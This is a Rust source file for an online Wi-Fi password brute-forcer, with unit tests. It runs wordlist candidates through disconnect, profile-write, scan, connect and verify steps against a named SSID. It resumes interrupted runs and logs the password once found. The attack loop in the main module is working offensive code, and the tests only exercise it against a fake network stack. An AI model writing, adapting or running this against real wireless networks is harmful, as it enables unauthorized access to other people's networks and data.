/*!
 * Online brute-force attempt loop
 *
 * Drives one candidate at a time through the OS network stack:
 *
 *   INIT -> DISCONNECT -> CONFIGURE -> SCAN_WAIT -> CONNECT_WAIT -> VERIFY
 *
 * The run terminates on the first confirmed candidate, on wordlist
 * exhaustion, on a fatal step failure, or on cancellation. The wordlist
 * cursor is persisted before each attempt so an interrupted run resumes
 * where it stopped.
 */

use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use tracing::{debug, error, info, warn};

use crate::error::{BlastError, Result};
use crate::index::{AttemptRecord, ProgressIndex};
use crate::netctl::NetworkControl;
use crate::paths::Workspace;
use crate::profile;
use crate::wait::{poll_until, WaitOutcome};
use crate::wordlist::WordlistReader;

/// Wall-clock knobs for the per-candidate phases.
///
/// Defaults follow the historical behavior: a 10 s scan/connect budget, a
/// connection request re-issued after 2 s of silence, and a minimum half
/// second settle before each status check.
#[derive(Debug, Clone)]
pub struct Timing {
    /// Budget for SCAN_WAIT and CONNECT_WAIT, each reset per candidate.
    pub phase_timeout: Duration,
    /// Re-issue the connection request after this much silence.
    pub reissue_after: Duration,
    /// Minimum settle delay before each VERIFY status query.
    pub min_settle: Duration,
    /// Sleep between polling probes.
    pub poll_interval: Duration,
}

impl Default for Timing {
    fn default() -> Self {
        Timing {
            phase_timeout: Duration::from_secs(10),
            reissue_after: Duration::from_secs(2),
            min_settle: Duration::from_millis(500),
            poll_interval: Duration::from_millis(50),
        }
    }
}

/// One run's configuration.
#[derive(Debug, Clone)]
pub struct BlastConfig {
    pub ssid: String,
    pub wordlist: PathBuf,
    pub timing: Timing,
}

/// How a run ended, short of a fatal error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BlastOutcome {
    /// A candidate was confirmed as the network's password.
    Found { password: String, attempts: u64 },
    /// Every candidate in the wordlist was rejected.
    Exhausted { attempts: u64 },
    /// The run was cancelled between candidates or between polls.
    Interrupted { attempts: u64 },
}

enum CandidateOutcome {
    Confirmed,
    Rejected,
    Interrupted,
}

/// Run the attempt loop to completion.
///
/// Fatal step failures (disconnect, delete-profile, profile write, scan
/// timeout) come back as `Err`; the caller reports them as an aborted run.
/// The cancel flag is observed between candidates and between polls, and
/// index writes are all-or-nothing, so cancellation never leaves a
/// half-written entry.
pub fn run(
    ctl: &dyn NetworkControl,
    ws: &Workspace,
    config: &BlastConfig,
    cancel: &AtomicBool,
) -> Result<BlastOutcome> {
    let started = Instant::now();

    if !config.wordlist.is_file() {
        return Err(BlastError::WordlistMissing(config.wordlist.clone()));
    }
    let wordlist_name = config
        .wordlist
        .file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_else(|| config.wordlist.display().to_string());

    warn!("starting blast run against: {}", config.ssid);

    let index = ProgressIndex::new(&ws.data_dir);
    let resume_offset = index
        .read(&config.ssid, &wordlist_name)
        .map(|resume| resume.offset)
        .unwrap_or(0);

    let mut reader = WordlistReader::open(&config.wordlist, resume_offset)?;
    let mut attempts: u64 = 0;

    loop {
        if cancel.load(Ordering::SeqCst) {
            warn!("run cancelled after {} attempts", attempts);
            return Ok(BlastOutcome::Interrupted { attempts });
        }

        // INIT: next candidate, cursor persisted before the attempt runs.
        let candidate = match reader.next_candidate()? {
            Some(candidate) => candidate,
            None => {
                info!(
                    "no valid password for {} in {} - elapsed: {:?}",
                    config.ssid,
                    wordlist_name,
                    started.elapsed()
                );
                return Ok(BlastOutcome::Exhausted { attempts });
            }
        };
        attempts += 1;

        info!(
            "network: {} - attempt: {} - elapsed: {:?} - candidate: {}",
            config.ssid,
            attempts,
            started.elapsed(),
            candidate
        );
        // A failed index write degrades to an unpersisted cursor; the run
        // itself keeps going.
        index.write(
            &config.ssid,
            &wordlist_name,
            AttemptRecord::new(&config.wordlist, &candidate, reader.offset()),
        );

        match try_candidate(ctl, ws, config, cancel, &candidate)? {
            CandidateOutcome::Confirmed => {
                warn!(
                    "network: {} - password: {} - elapsed: {:?}",
                    config.ssid,
                    candidate,
                    started.elapsed()
                );
                return Ok(BlastOutcome::Found {
                    password: candidate,
                    attempts,
                });
            }
            CandidateOutcome::Rejected => continue,
            CandidateOutcome::Interrupted => {
                warn!("run cancelled after {} attempts", attempts);
                return Ok(BlastOutcome::Interrupted { attempts });
            }
        }
    }
}

/// One full pass of the per-candidate state machine.
fn try_candidate(
    ctl: &dyn NetworkControl,
    ws: &Workspace,
    config: &BlastConfig,
    cancel: &AtomicBool,
    candidate: &str,
) -> Result<CandidateOutcome> {
    let ssid = config.ssid.as_str();
    let timing = &config.timing;

    // DISCONNECT: without a clean starting state every later observation is
    // suspect, so failure here ends the run.
    if !ctl.disconnect() {
        error!("failed to disconnect before attempting: {}", ssid);
        return Err(BlastError::DisconnectFailed);
    }

    // CONFIGURE: a stale profile could mask the real result.
    if !ctl.delete_profile(ssid) {
        error!("failed to delete existing profile: {}", ssid);
        return Err(BlastError::DeleteProfileFailed(ssid.to_string()));
    }
    let profile_path = profile::write_profile(ssid, candidate, &ws.profile_dir)?;
    if !ctl.add_profile(&profile_path) {
        warn!("profile rejected for candidate, skipping: {}", candidate);
        return Ok(CandidateOutcome::Rejected);
    }

    // SCAN_WAIT: the target never showing up is an environment failure,
    // not a password rejection.
    let scan_deadline = Instant::now() + timing.phase_timeout;
    match poll_until(scan_deadline, timing.poll_interval, cancel, || {
        ctl.ssid_visible(ssid)
    }) {
        WaitOutcome::Satisfied => debug!("scan found target: {}", ssid),
        WaitOutcome::TimedOut => {
            error!("scan timed out: {}", ssid);
            return Err(BlastError::ScanTimeout {
                ssid: ssid.to_string(),
                timeout: timing.phase_timeout,
            });
        }
        WaitOutcome::Cancelled => return Ok(CandidateOutcome::Interrupted),
    }

    // CONNECT_WAIT: keep the request alive until it is accepted or the
    // budget runs out. A deadline here is not a rejection by itself; the
    // connection may still have come up, so fall through to VERIFY.
    let connect_deadline = Instant::now() + timing.phase_timeout;
    let mut last_request: Option<Instant> = None;
    loop {
        if cancel.load(Ordering::SeqCst) {
            return Ok(CandidateOutcome::Interrupted);
        }

        let reissue = match last_request {
            None => true,
            Some(at) => at.elapsed() > timing.reissue_after,
        };
        if reissue {
            last_request = Some(Instant::now());
            debug!("issuing connection request: {}", ssid);
            if ctl.connect(ssid) {
                debug!("connection request accepted: {}", ssid);
                break;
            }
        }

        if Instant::now() >= connect_deadline {
            warn!("connect deadline passed for {}, verifying anyway", ssid);
            break;
        }

        thread::sleep(timing.poll_interval);
    }

    // VERIFY: settle, then ask the interface twice whether the target is the
    // active connection.
    for _ in 0..2 {
        if cancel.load(Ordering::SeqCst) {
            return Ok(CandidateOutcome::Interrupted);
        }

        let settle = last_request
            .map(|at| at.elapsed())
            .unwrap_or(Duration::ZERO)
            .max(timing.min_settle);
        thread::sleep(settle);

        if ctl.connected_to(ssid) {
            return Ok(CandidateOutcome::Confirmed);
        }
    }

    Ok(CandidateOutcome::Rejected)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::index::INDEX_FILE;
    use std::cell::RefCell;
    use std::io::Write;
    use std::path::Path;

    /// Deterministic stand-in for the OS network stack.
    ///
    /// Tracks the candidate currently registered (by reading the profile
    /// document back, the way netsh would) and enforces the one-profile
    /// invariant: adding while a profile is still registered is a violation.
    #[derive(Default)]
    struct FakeControl {
        correct_password: Option<String>,
        fail_disconnect: bool,
        fail_delete: bool,
        reject_add_for: Option<String>,
        invisible: bool,
        refuse_connect: bool,

        registered: RefCell<Option<String>>,
        attempted: RefCell<Vec<String>>,
        double_add: RefCell<bool>,
    }

    impl FakeControl {
        fn accepting(correct: &str) -> Self {
            FakeControl {
                correct_password: Some(correct.to_string()),
                ..FakeControl::default()
            }
        }

        fn attempted(&self) -> Vec<String> {
            self.attempted.borrow().clone()
        }
    }

    impl NetworkControl for FakeControl {
        fn disconnect(&self) -> bool {
            !self.fail_disconnect
        }

        fn delete_profile(&self, _ssid: &str) -> bool {
            if self.fail_delete {
                return false;
            }
            *self.registered.borrow_mut() = None;
            true
        }

        fn add_profile(&self, path: &Path) -> bool {
            let xml = std::fs::read_to_string(path).unwrap();
            let password = xml
                .split("<keyMaterial>")
                .nth(1)
                .and_then(|rest| rest.split("</keyMaterial>").next())
                .unwrap()
                .to_string();

            if self.reject_add_for.as_deref() == Some(password.as_str()) {
                return false;
            }

            if self.registered.borrow().is_some() {
                *self.double_add.borrow_mut() = true;
            }
            self.attempted.borrow_mut().push(password.clone());
            *self.registered.borrow_mut() = Some(password);
            true
        }

        fn connect(&self, _ssid: &str) -> bool {
            !self.refuse_connect
        }

        fn ssid_visible(&self, _ssid: &str) -> bool {
            !self.invisible
        }

        fn connected_to(&self, _ssid: &str) -> bool {
            match (&self.correct_password, &*self.registered.borrow()) {
                (Some(expected), Some(current)) => expected == current,
                _ => false,
            }
        }
    }

    fn fast_timing() -> Timing {
        Timing {
            phase_timeout: Duration::from_millis(50),
            reissue_after: Duration::from_millis(10),
            min_settle: Duration::from_millis(1),
            poll_interval: Duration::from_millis(1),
        }
    }

    fn setup(contents: &str) -> (tempfile::TempDir, Workspace, BlastConfig) {
        let tmp = tempfile::tempdir().unwrap();
        let ws = Workspace::init(tmp.path()).unwrap();

        let wordlist = tmp.path().join("words.txt");
        let mut file = std::fs::File::create(&wordlist).unwrap();
        file.write_all(contents.as_bytes()).unwrap();

        let config = BlastConfig {
            ssid: "TestNet".to_string(),
            wordlist,
            timing: fast_timing(),
        };
        (tmp, ws, config)
    }

    fn stored_offset(ws: &Workspace) -> u64 {
        let raw = std::fs::read_to_string(ws.data_dir.join(INDEX_FILE)).unwrap();
        let data: serde_json::Value = serde_json::from_str(&raw).unwrap();
        data["TestNet"]["words.txt"]["CODEBOOK_SEEK"].as_u64().unwrap()
    }

    #[test]
    fn test_success_on_second_candidate_stops_the_run() {
        let (_tmp, ws, config) = setup("wrongpass\nrightpass\nneverpass\n");
        let ctl = FakeControl::accepting("rightpass");
        let cancel = AtomicBool::new(false);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(
            outcome,
            BlastOutcome::Found {
                password: "rightpass".to_string(),
                attempts: 2
            }
        );
        assert_eq!(ctl.attempted(), vec!["wrongpass", "rightpass"]);
    }

    #[test]
    fn test_exhaustion_attempts_all_candidates_in_order() {
        let (_tmp, ws, config) = setup("short\nlongenoughpw\n12345678\n");
        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(false);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(outcome, BlastOutcome::Exhausted { attempts: 3 });
        assert_eq!(ctl.attempted(), vec!["short", "longenoughpw", "12345678"]);
        // Cumulative byte offsets, line terminators included.
        assert_eq!(stored_offset(&ws), 28);
    }

    #[test]
    fn test_scan_timeout_aborts_with_cursor_persisted() {
        let (_tmp, ws, config) = setup("firstpass\nsecondpass\n");
        let ctl = FakeControl {
            invisible: true,
            ..FakeControl::default()
        };
        let cancel = AtomicBool::new(false);

        let err = run(&ctl, &ws, &config, &cancel).unwrap_err();
        assert!(matches!(err, BlastError::ScanTimeout { .. }));
        // The cursor reflects the candidate that was in flight at the abort.
        assert_eq!(stored_offset(&ws), "firstpass\n".len() as u64);
    }

    #[test]
    fn test_disconnect_failure_is_fatal() {
        let (_tmp, ws, config) = setup("firstpass\n");
        let ctl = FakeControl {
            fail_disconnect: true,
            ..FakeControl::default()
        };
        let cancel = AtomicBool::new(false);

        let err = run(&ctl, &ws, &config, &cancel).unwrap_err();
        assert!(matches!(err, BlastError::DisconnectFailed));
    }

    #[test]
    fn test_delete_profile_failure_is_fatal() {
        let (_tmp, ws, config) = setup("firstpass\n");
        let ctl = FakeControl {
            fail_delete: true,
            ..FakeControl::default()
        };
        let cancel = AtomicBool::new(false);

        let err = run(&ctl, &ws, &config, &cancel).unwrap_err();
        assert!(matches!(err, BlastError::DeleteProfileFailed(_)));
    }

    #[test]
    fn test_rejected_profile_skips_candidate_and_continues() {
        let (_tmp, ws, config) = setup("badprofile\nrightpass\n");
        let ctl = FakeControl {
            correct_password: Some("rightpass".to_string()),
            reject_add_for: Some("badprofile".to_string()),
            ..FakeControl::default()
        };
        let cancel = AtomicBool::new(false);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(
            outcome,
            BlastOutcome::Found {
                password: "rightpass".to_string(),
                attempts: 2
            }
        );
        // The rejected candidate never reached the profile store.
        assert_eq!(ctl.attempted(), vec!["rightpass"]);
    }

    #[test]
    fn test_connect_deadline_still_verifies_once() {
        // The adapter never accepts the connect request, but the interface
        // reports the target as connected: the candidate must be confirmed.
        let (_tmp, ws, config) = setup("rightpass\n");
        let ctl = FakeControl {
            correct_password: Some("rightpass".to_string()),
            refuse_connect: true,
            ..FakeControl::default()
        };
        let cancel = AtomicBool::new(false);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(
            outcome,
            BlastOutcome::Found {
                password: "rightpass".to_string(),
                attempts: 1
            }
        );
    }

    #[test]
    fn test_resume_never_reattempts_candidates_before_offset() {
        let (_tmp, ws, config) = setup("aaaa\nbbbb\ncccc\n");

        // A previous run stopped after the first candidate.
        let index = ProgressIndex::new(&ws.data_dir);
        index.write(
            "TestNet",
            "words.txt",
            AttemptRecord::new(&config.wordlist, "aaaa", 5),
        );

        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(false);
        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();

        assert_eq!(outcome, BlastOutcome::Exhausted { attempts: 2 });
        assert_eq!(ctl.attempted(), vec!["bbbb", "cccc"]);
    }

    #[test]
    fn test_blank_lines_advance_cursor_without_counting_attempts() {
        let (_tmp, ws, config) = setup("firstpass\n\n   \nsecondpass\n");
        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(false);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(outcome, BlastOutcome::Exhausted { attempts: 2 });
        assert_eq!(stored_offset(&ws), "firstpass\n\n   \nsecondpass\n".len() as u64);
    }

    #[test]
    fn test_at_most_one_profile_registered_at_a_time() {
        let (_tmp, ws, config) = setup("one1\ntwo2\nthree3\n");
        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(false);

        run(&ctl, &ws, &config, &cancel).unwrap();
        assert!(!*ctl.double_add.borrow());
    }

    #[test]
    fn test_cancellation_before_first_candidate() {
        let (_tmp, ws, config) = setup("firstpass\n");
        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(true);

        let outcome = run(&ctl, &ws, &config, &cancel).unwrap();
        assert_eq!(outcome, BlastOutcome::Interrupted { attempts: 0 });
        assert!(ctl.attempted().is_empty());
    }

    #[test]
    fn test_missing_wordlist_is_fatal_before_any_attempt() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = Workspace::init(tmp.path()).unwrap();
        let config = BlastConfig {
            ssid: "TestNet".to_string(),
            wordlist: tmp.path().join("missing.txt"),
            timing: fast_timing(),
        };
        let ctl = FakeControl::default();
        let cancel = AtomicBool::new(false);

        let err = run(&ctl, &ws, &config, &cancel).unwrap_err();
        assert!(matches!(err, BlastError::WordlistMissing(_)));
        assert!(ctl.attempted().is_empty());
    }
}
